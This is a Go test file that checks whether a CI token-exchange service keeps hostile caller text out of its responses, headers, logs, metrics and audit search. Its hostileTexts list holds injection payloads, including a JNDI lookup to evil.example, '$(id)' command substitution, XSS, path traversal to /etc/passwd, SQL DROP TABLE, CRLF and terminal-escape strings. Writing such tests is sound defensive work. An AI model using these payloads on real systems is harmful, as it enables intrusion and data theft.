package main

import (
	"fmt"
	"io"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"

	"github.com/proviso-ci/proviso/lab"
)

// hostileTexts are what somebody writes into a name to break a log, a terminal,
// a page, or whoever reads one of them.
var hostileTexts = []string{
	"main\n{\"level\":\"ERROR\",\"msg\":\"forged line\"}",
	"main\r\nSet-Cookie: a=b",
	"\x1b[2J\x1b]0;owned\a",
	"ma\x00in",
	"\u202egnp.exe",
	"\u2066main\u2069",
	"main\u2028forged line",
	"\u200bmain\ufeff",
	"\u009b31mmain",
	"{{.Secret}}${jndi:ldap://evil.example/a}%n%s$(id)`id`",
	"<script>alert(1)</script>\"'><img src=x>",
	"../../../etc/passwd",
	"'; DROP TABLE entry; --",
	strings.Repeat("A", 8000),
	"\U000e0041\U000e0042",
}

// raw finds the first character of a text that could do something to whoever
// prints it: a control, a direction mark, anything that is not seen.
func raw(text string) (rune, bool) {
	for _, r := range text {
		if r != '\n' && !unicode.IsPrint(r) {
			return r, true
		}
	}
	return 0, false
}

// Whatever stands in a signed token's claims or in what a job declares: nobody
// who reads an answer, the log, the metrics or a search of the record gets a
// character of it that does something, and no line is forged.
func TestHostileTextReachesNobodyRaw(t *testing.T) {
	t.Parallel()
	s := newSite(t, plan{
		grants: deployOnly + strings.NewReplacer("deploy: {", "purpose: {", "policy: open", "policy: purpose").Replace(deployOnly),
		policies: map[string]string{"open.rego": openPolicy,
			"purpose.rego": "package purpose\n\nallow if {\n\tinput.context.purpose == \"debug\"\n\tinput.context.annotation == \"x\"\n\tinput.context.branch == \"release\"\n}\n"},
	})
	p := s.spawn()
	claims := []string{"sub", "repository", "repository_owner", "ref", "ref_type", "head_ref", "base_ref", "workflow", "workflow_ref", "job_workflow_ref",
		"environment", "actor", "event_name", "run_id", "run_attempt", "runner_environment", "jti", "sha", "iss", "aud", "no_such_claim"}
	answers := 0
	look := func(what string, form map[string][]string) {
		resp, err := s.client.PostForm(s.url+"/token", form)
		if err != nil {
			t.Errorf("%s: %v", what, err)
			return
		}
		defer resp.Body.Close()
		body := string(made(io.ReadAll(resp.Body))(t))
		if r, bad := raw(body); bad {
			t.Errorf("%s: the answer holds %U: %.300q", what, r, body)
		}
		if resp.StatusCode >= 500 || len(body) > 20<<10 {
			t.Errorf("%s: %d with %d bytes", what, resp.StatusCode, len(body))
		}
		for name, values := range resp.Header {
			if r, bad := raw(name + strings.Join(values, "")); bad || strings.Contains(name, "Cookie") {
				t.Errorf("%s: a header holds %U", what, r)
			}
		}
		answers++
	}
	for _, text := range hostileTexts {
		for _, claim := range claims {
			look(fmt.Sprintf("claim %s %.20q", claim, text), exchangeForm(s.token(lab.Job{}, lab.Claim(claim, text)), "purpose"))
		}
		for _, name := range []string{"kid", "typ", "alg", text} {
			look(fmt.Sprintf("header %.20q %.20q", name, text), exchangeForm(s.token(lab.Job{}, lab.Header(name, text)), "purpose"))
		}
		for _, name := range []string{"grant_type", "subject_token", "subject_token_type", "actor_token_type", "audience", "scope", "requested_token_type", "resource", "csr", text} {
			look(fmt.Sprintf("parameter %.20q %.20q", name, text), exchangeForm(s.token(lab.Job{}), "purpose", name, text))
		}
		twice := exchangeForm(s.token(lab.Job{}), "purpose")
		twice[text] = []string{"a", "b"}
		look(fmt.Sprintf("%.20q twice", text), twice)
		for _, member := range []string{"purpose", "annotation", "action", "ticket_id", "type", text} {
			quoted := fmt.Sprintf("[{\"type\":\"proviso_intent\",%s:%s}]", jsonText(member), jsonText(text))
			look(fmt.Sprintf("declared %.20q %.20q", member, text), exchangeForm(s.token(lab.Job{}), "purpose", "authorization_details", quoted))
		}
		look(fmt.Sprintf("another content type %.20q", text), exchangeForm(s.token(lab.Job{}), "purpose", "grant_type", text))
	}
	if r := s.ask(exchangeForm(s.token(lab.Job{}), "deploy")); r.granted == nil {
		t.Errorf("a good request after them: %s", r)
	}
	_, metrics := s.get("/metrics")
	code, found := cli(t, "audit", "search", "--store", s.dir+"/data")
	if code != exitDone || strings.Count(found, "\n") < answers/4 {
		t.Errorf("the search of the record ended with %d and %d lines for %d answers", code, strings.Count(found, "\n"), answers)
	}
	_, asJSON := cli(t, "audit", "search", "--store", s.dir+"/data", "--output", "json")
	p.signal(syscall.SIGTERM)
	p.ended(30 * time.Second)
	for where, text := range map[string]string{"the log": p.log.String(), "the metrics": metrics, "the search": found, "the search in JSON": asJSON} {
		for line := range strings.Lines(text) {
			if r, bad := raw(line); bad {
				t.Errorf("%s holds %U: %.300q", where, r, line)
				break
			}
			if strings.HasPrefix(line, `{"level":"ERROR","msg":"forged`) || strings.HasPrefix(line, "forged line") {
				t.Errorf("%s has a forged line", where)
			}
			if where == "the log" && len(line) > 8<<10 {
				t.Errorf("%s has a line of %d bytes: %.200s", where, len(line), line)
				break
			}
		}
	}
	if strings.Contains(metrics, "passwd") || strings.Contains(metrics, "DROP") {
		t.Error("a label of the metrics is a caller's text")
	}
}

// jsonText writes a text as JSON with nothing escaped that needn't be.
func jsonText(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		if r < 0x20 || r == '"' || r == '\\' {
			fmt.Fprintf(&b, "\\u%04x", r)
		} else {
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}
